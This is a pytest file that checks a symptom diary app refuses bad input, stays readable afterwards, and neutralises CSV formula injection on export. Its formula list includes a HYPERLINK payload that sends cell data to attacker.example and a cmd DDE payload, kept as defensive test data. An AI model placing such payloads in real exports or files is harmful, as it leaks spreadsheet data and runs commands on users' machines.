"""Input that once broke the diary, sent the way it broke it: to the real server, on SQLite and
on PostgreSQL, to the command line and through CSV. Each is refused with the field named (422,
or exit status 2), nothing is a 500, every answer carries the security headers, and the diary
stays readable afterwards."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import socket
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest
import uvicorn
from fastapi import FastAPI
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy.exc import StatementError

from myoguide.diary.csvio import FORMULA_STARTS, read_episodes, write_episodes
from myoguide.diary.models import DayIn, EpisodeIn
from myoguide.diary.store import DiaryStore
from myoguide.web import create_app

from .servers import Server, form_token, free_port, running_server, signed_in
from .test_diary_cli import myoguide, run

API = "/api/v1/diary"
SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options")
EPISODE = {"at": "2026-01-05T08:30:00+01:00", "kind": "twitch", "regions": ["eyelid"]}
HALF_AN_EMOJI = "\ud83d"
# Every place that shows or hands over the diary: each failed for good after one bad write.
READS = (
    f"{API}/export",
    f"{API}/episodes",
    f"{API}/triggers",
    "/diary",
    "/diary/episodes",
    "/diary/triggers",
    "/diary/days/2026-01-05",
    "/diary/account/export.json",
    "/diary/account/episodes.csv",
    "/diary/account/days.csv",
    "/diary/account/report.pdf",
)


@dataclass
class Person:
    client: httpx2.Client
    csrf: str

    def send(self, method: str, path: str, body: Any, **headers: str) -> httpx2.Response:
        """`body` as JSON text, as any client may send it: half a character escaped too."""
        return self.client.request(
            method,
            path,
            content=json.dumps(body),
            headers={"Content-Type": "application/json", "X-CSRF-Token": self.csrf, **headers},
        )

    def form(self, path: str, fields: dict[str, str]) -> httpx2.Response:
        return self.client.post(
            path, data={**fields, "csrf_token": form_token(self.client, "/diary")}
        )


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("inputs")
    if request.param == "sqlite":
        url = str(folder / "diary.sqlite3")
    else:
        url = request.getfixturevalue("postgres_database")
    with running_server(url, folder / "server.log") as running:
        yield running


@pytest.fixture(scope="module")
def person(server: Server) -> Iterator[Person]:
    with signed_in(server, f"inputs-{uuid.uuid4().hex[:8]}", register=True) as client:
        yield Person(client, client.get(f"{API}/session").json()["csrf_token"])


def assert_refused(response: httpx2.Response, field: str) -> None:
    assert response.status_code == 422, response.text
    assert [problem["field"] for problem in response.json()["detail"]] == [field]
    assert_secure(response)


def assert_secure(response: httpx2.Response) -> None:
    for name in SECURITY_HEADERS:
        assert name in response.headers, f"{name} missing on a {response.status_code}"


# The poisoning requests


def test_text_that_cannot_be_stored_is_refused_and_the_diary_stays_readable(
    person: Person,
) -> None:
    saved = person.send("POST", f"{API}/episodes", {**EPISODE, "intensity": 3, "note": "fine"})
    assert saved.status_code == 201, saved.text
    day = {"medications": ["magnesium"], "custom": {"screen hours": 5}}
    assert person.send("PUT", f"{API}/days/2026-01-05", day).status_code == 200
    before = person.client.get(f"{API}/export").json()

    for bad in (HALF_AN_EMOJI, "a\0b"):
        episode = {**EPISODE, "intensity": 3, "note": bad}
        assert_refused(person.send("POST", f"{API}/episodes", episode), "note")
        episode_id = saved.json()["id"]
        assert_refused(person.send("PUT", f"{API}/episodes/{episode_id}", episode), "note")
        for factors in ({"medications": ["ok", bad]}, {"custom": {bad: 1}}):
            name = next(iter(factors))
            assert_refused(person.send("PUT", f"{API}/days/2026-01-06", factors), name)
        credentials = {"name": f"someone{bad}", "password": "long enough password"}
        assert_refused(person.send("POST", f"{API}/session", credentials), "name")
        assert_refused(person.send("POST", f"{API}/account", credentials), "name")
        password = {"name": "someone", "password": f"long enough{bad}"}
        assert_refused(person.send("POST", f"{API}/session", password), "password")

    # The pages: a browser sends no half characters (it sends U+FFFD), but a NUL it can.
    page = person.form("/diary/episodes", {"kind": "twitch", "regions": "calf", "note": "a\0b"})
    assert page.status_code == 422
    assert "cannot be stored" in page.text
    page = person.form("/diary/days/2026-01-06", {"medications": "zinc, a\0b"})
    assert page.status_code == 422
    assert "cannot be stored" in page.text

    for path in (*READS, f"/diary/episodes/{saved.json()['id']}/edit"):
        response = person.client.get(path)
        assert response.status_code == 200, f"{path}: {response.status_code}"
    assert person.client.get(f"{API}/export").json() == before


@pytest.mark.parametrize("database", ["sqlite", "postgresql"])
def test_the_store_never_commits_what_it_could_not_read_back(
    database: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """Past the models (a bug, or a model built without validation), the JSON columns are
    written by the encoder that reads them, so the write fails and nothing is committed."""
    url = (
        str(tmp_path / "d.sqlite3")
        if database == "sqlite"
        else request.getfixturevalue("postgres_database")
    )
    store = DiaryStore.open(url)
    try:
        book = store.diary(f"store-{uuid.uuid4().hex[:8]}")
        book.set_day(DayIn(date=dt.date(2026, 1, 5), medications=["zinc"]))
        for factors in ({"medications": [HALF_AN_EMOJI]}, {"custom": {HALF_AN_EMOJI: 1.0}}):
            for date in (dt.date(2026, 1, 5), dt.date(2026, 1, 6)):
                poisoned = DayIn.model_construct(date=date, **factors)
                with pytest.raises((StatementError, TypeError)):  # as each driver wraps it
                    book.set_day(poisoned, merge=False)
        assert [(day.date, day.medications) for day in book.days()] == [
            (dt.date(2026, 1, 5), ["zinc"])
        ]
    finally:
        store.close()


def test_a_login_name_with_nul_is_refused_on_the_page(server: Server) -> None:
    with httpx2.Client(base_url=server.base_url, timeout=10) as client:
        fields = {"csrf_token": form_token(client, "/diary/login"), "name": "x\0y", "password": "p"}
        response = client.post("/diary/login", data=fields)
    assert response.status_code == 422
    assert "The user name holds a NUL character" in response.text
    assert_secure(response)


# What was a 500


@pytest.mark.parametrize(
    ("at", "why"),
    [
        ("0001-01-01T00:00:00+00:01", "a minute before the year 1 in UTC"),
        ("9999-12-31T23:59:59-00:01", "a minute after the year 9999 in UTC"),
    ],
)
def test_a_time_whose_utc_falls_outside_the_calendar_is_refused(
    person: Person, at: str, why: str
) -> None:
    episode = {**EPISODE, "at": at, "intensity": 3}
    response = person.send("POST", f"{API}/episodes", episode)
    assert_refused(response, "at")
    assert "years 1 to 9999" in response.json()["detail"][0]["msg"], why
    offset = at[-6:]
    minutes = (1 if offset[0] == "+" else -1) * int(offset[-2:])
    page = person.form(
        "/diary/episodes",
        {"kind": "twitch", "regions": "calf", "at": at[:16], "utc_offset": str(minutes)},
    )
    assert page.status_code == 422
    assert "That time cannot be stored" in page.text


def test_numbers_beyond_the_columns_are_not_found_or_refused(person: Person) -> None:
    huge = "99999999999999999999"
    for number in ("2147483648", huge):
        for method in ("GET", "DELETE"):
            response = person.send(method, f"{API}/episodes/{number}", None)
            assert response.status_code == 404, (method, number, response.text)
            assert_secure(response)
        episode = {**EPISODE, "intensity": 3}
        response = person.send("PUT", f"{API}/episodes/{number}", episode)
        assert response.status_code == 404
        assert_secure(response)
        for path in (f"/diary/episodes/{number}/edit", f"/diary/episodes/{number}/delete"):
            response = person.client.get(path)
            assert response.status_code == 404, path
            assert_secure(response)
        response = person.form(f"/diary/episodes/{number}/delete", {})
        assert response.status_code == 404
    for offset in ("2147483648", "9223372036854775808"):
        assert_refused(
            person.client.get(f"{API}/episodes", params={"offset": offset}), "query.offset"
        )
    # Pages past the last show the last; a digit that is not 0-9 names no episode.
    for path in (
        f"/diary/episodes?page={huge}",
        "/diary/episodes?page=-3",
        "/diary?episode=%C2%B2",
    ):
        response = person.client.get(path)
        assert response.status_code == 200, path
        assert_secure(response)


def test_json_values_are_taken_at_their_type(person: Person) -> None:
    loose = [
        ("POST", f"{API}/episodes", {**EPISODE, "intensity": True}, "intensity"),
        ("POST", f"{API}/episodes", {**EPISODE, "intensity": "3"}, "intensity"),
        ("POST", f"{API}/episodes", {**EPISODE, "intensity": 3, "duration_s": False}, "duration_s"),
        ("PUT", f"{API}/days/2026-01-07", {"alcohol_units": False}, "alcohol_units"),
        ("PUT", f"{API}/days/2026-01-07", {"nicotine": "yes"}, "nicotine"),
        ("PUT", f"{API}/days/2026-01-07", {"nicotine": 1}, "nicotine"),
        ("PUT", f"{API}/days/2026-01-07", {"stress": "3"}, "stress"),
        ("PUT", f"{API}/days/2026-01-07", {"caffeine_cups": "5"}, "caffeine_cups"),
    ]
    for method, path, body, field in loose:
        assert_refused(person.send(method, path, body), field)
    assert person.client.get(f"{API}/days/2026-01-07").status_code == 404
    # What JSON means by a number still is one: 3.0 is the integer 3, 7 is 7.0 hours.
    saved = person.send("POST", f"{API}/episodes", {**EPISODE, "intensity": 3.0})
    assert (saved.status_code, saved.json()["intensity"]) == (201, 3)
    day = person.send("PUT", f"{API}/days/2026-01-07", {"sleep_hours": 7, "nicotine": False})
    assert day.json()["sleep_hours"] == 7.0
    assert day.json()["nicotine"] is False


def test_saving_one_new_day_at_once_from_many_places_loses_none(person: Person) -> None:
    """60 at once through the API (one statement each), 30 through the day's page (which
    merges into what is there): each saves, none breaks the day's unique key."""

    def put(number: int) -> int:
        body = {"caffeine_cups": number % 5, "medications": [f"m{number}"]}
        return person.send("PUT", f"{API}/days/2026-01-08", body).status_code

    with ThreadPoolExecutor(max_workers=60) as pool:
        statuses = list(pool.map(put, range(60)))
    assert statuses == [200] * 60
    saved = person.client.get(f"{API}/days/2026-01-08").json()
    assert saved["caffeine_cups"] == int(saved["medications"][0][1:]) % 5

    token = form_token(person.client, "/diary")

    def post(number: int) -> int:
        fields = {"csrf_token": token, "date": "2026-01-09", "sleep_hours": str(number % 9)}
        return person.client.post("/diary/days", data=fields).status_code

    with ThreadPoolExecutor(max_workers=30) as pool:
        assert list(pool.map(post, range(30))) == [303] * 30
    assert person.client.get(f"{API}/days/2026-01-09").status_code == 200


# CSV formula injection


SPREADSHEET_FORMULAS = (
    '=HYPERLINK("https://attacker.example/?"&A1,"Click for your results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=a note that starts with a quote",
    "'",
)


def test_exported_csv_runs_no_formula_and_imports_back_unchanged(
    person: Person, tmp_path: Path
) -> None:
    for number, note in enumerate(SPREADSHEET_FORMULAS):
        at = f"2026-01-10T0{number}:00:00+00:00"
        saved = person.send(
            "POST", f"{API}/episodes", {**EPISODE, "at": at, "intensity": 2, "note": note}
        )
        assert saved.status_code == 201, saved.text
    day = {"medications": ["=cmd()", "@x"], "custom": {"+1": 2}}
    assert person.send("PUT", f"{API}/days/2026-01-10", day).status_code == 200

    files = {}
    for name in ("episodes", "days"):
        text = person.client.get(f"/diary/account/{name}.csv").text
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), cell
        files[name] = tmp_path / f"{name}.csv"
        files[name].write_text(text, encoding="utf-8", newline="")
    episodes_csv = files["episodes"].read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https://attacker.example/' in episodes_csv
    assert "\"''=a note that starts with a quote\"" in episodes_csv

    db = tmp_path / "copy.sqlite3"
    done = run(db, "import", "--episodes", str(files["episodes"]), "--days", str(files["days"]))
    assert done.returncode == 0, done.stderr
    listed = json.loads(run(db, "list", "--format", "json").stdout)
    notes = {episode["note"] for episode in listed["episodes"]}
    assert set(SPREADSHEET_FORMULAS) <= notes
    imported_day = next(d for d in listed["days"] if d["date"] == "2026-01-10")
    assert (imported_day["medications"], imported_day["custom"]) == (["=cmd()", "@x"], {"+1": 2.0})


ESCAPE_PRONE = st.text(st.sampled_from("=+-@\t\r\n'\",;a "), max_size=8)
ANY_TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=40)


@settings(max_examples=300, deadline=None)
@given(note=ESCAPE_PRONE | ANY_TEXT)
def test_no_note_is_a_formula_and_every_note_comes_back(note: str) -> None:
    episode = EpisodeIn(
        at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        kind="spasm",
        regions=["calf"],
        intensity=1,
        note=note,
    )
    out = io.StringIO()
    write_episodes([episode], out)
    cells = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert not cells[5].startswith(FORMULA_STARTS)
    assert [e.note for e in read_episodes(out.getvalue())] == [note]


# The command line and CSV import


def test_the_command_line_refuses_half_characters_and_impossible_times(tmp_path: Path) -> None:
    db = tmp_path / "cli.sqlite3"
    # Bytes that are not UTF-8 reach Python's argv as half characters (surrogate escapes).
    done = subprocess.run(
        [
            myoguide(),
            "diary",
            "--db",
            str(db),
            "add",
            "--kind",
            "twitch",
            "--where",
            "calf",
            "--intensity",
            "3",
            "--note",
            b"\xed\xa0\xbd",
        ],
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert b"--note: holds half of a character" in done.stderr
    assert b"Traceback" not in done.stderr
    late = run(
        db,
        "add",
        "--kind",
        "twitch",
        "--where",
        "calf",
        "--intensity",
        "3",
        "--at",
        "0001-01-01T00:00:00+00:01",
    )
    assert late.returncode == 2
    assert "years 1 to 9999" in late.stderr
    for period in (("--to", "9999-12-31"), ("--from", "0001-01-01")):
        refused = run(db, "list", *period)
        assert refused.returncode == 2
        assert f"Invalid value for '{period[0]}': use a date from 0002-01-01" in refused.stderr
    for medicine in ("a;b", "  "):
        refused = run(db, "day", "2026-01-05", "--medication", medicine)
        assert refused.returncode == 2
        assert "--medication" in refused.stderr
    assert json.loads(run(db, "list", "--format", "json").stdout) == {"episodes": [], "days": []}


def test_csv_import_refuses_what_cannot_be_stored_and_imports_nothing(tmp_path: Path) -> None:
    episodes = tmp_path / "episodes.csv"
    episodes.write_text(
        "timestamp,kind,regions,intensity,duration_s,note\n"
        "2026-01-05T08:00:00+00:00,twitch,eyelid,3,,fine\n"
        "2026-01-05T09:00:00+00:00,twitch,eyelid,3,,a\0b\n"
        "0001-01-01T00:00:00+00:01,twitch,eyelid,3,,\n",
        encoding="utf-8",
    )
    days = tmp_path / "days.csv"
    days.write_text(
        "date,caffeine_cups,sleep_hours,stress,water_glasses,exercise,nicotine,alcohol_units,"
        "medications,custom\n"
        '2026-01-05,,,,,,,,,"{""\\ud83d"": 1}"\n',
        encoding="utf-8",
    )
    db = tmp_path / "import.sqlite3"
    done = run(db, "import", "--episodes", str(episodes), "--days", str(days))
    assert done.returncode == 2
    assert "line 3, column note: holds a NUL character" in done.stderr
    assert "line 4, column timestamp: is outside the times a diary can hold" in done.stderr
    assert "line 2, column custom: a custom factor's name holds half of a character" in done.stderr
    assert json.loads(run(db, "list", "--format", "json").stdout) == {"episodes": [], "days": []}


# The last resort


def test_an_unexpected_error_is_a_500_with_the_headers_and_the_connection_stays_open(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    app = create_app(store=str(tmp_path / "diary.sqlite3"))
    add_failing_routes(app)
    with serving(app) as port, socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        for path, kind in (("/api/v1/broken", "application/json"), ("/broken", "text/html")):
            status, headers, body = exchange(sock, path)
            assert status == 500
            assert headers["content-type"].startswith(kind)
            for name in SECURITY_HEADERS:
                assert name in headers
            assert "Something went wrong on the server" in body
            assert "a secret note" not in body
        status, _, _ = exchange(sock, "/healthz")  # the same connection, still open
        assert status == 200
    logged = [record.getMessage() for record in caplog.records if record.name == "myoguide.web"]
    assert len(logged) == 2
    for line in logged:
        assert "builtins.RuntimeError at " in line
        assert "\n" not in line
        assert "a secret note" not in line


def add_failing_routes(app: FastAPI) -> None:
    async def broken() -> None:
        raise RuntimeError("a secret note")

    app.add_api_route("/api/v1/broken", broken)
    app.add_api_route("/broken", broken)


@contextmanager
def serving(app: FastAPI) -> Iterator[int]:
    """uvicorn, as `myoguide serve` runs it, over this app in a thread; its port."""
    port = free_port()
    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="critical")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        while not server.started:
            time.sleep(0.02)
        yield port
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def exchange(sock: socket.socket, path: str) -> tuple[int, dict[str, str], str]:
    """One HTTP/1.1 request on a kept-alive connection, and its answer."""
    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: testserver\r\n\r\n".encode())
    reader = sock.makefile("rb")
    status = int(reader.readline().split()[1])
    headers = {}
    while (line := reader.readline().decode("latin-1").strip()) != "":
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    body = reader.read(int(headers["content-length"])).decode()
    return status, headers, body
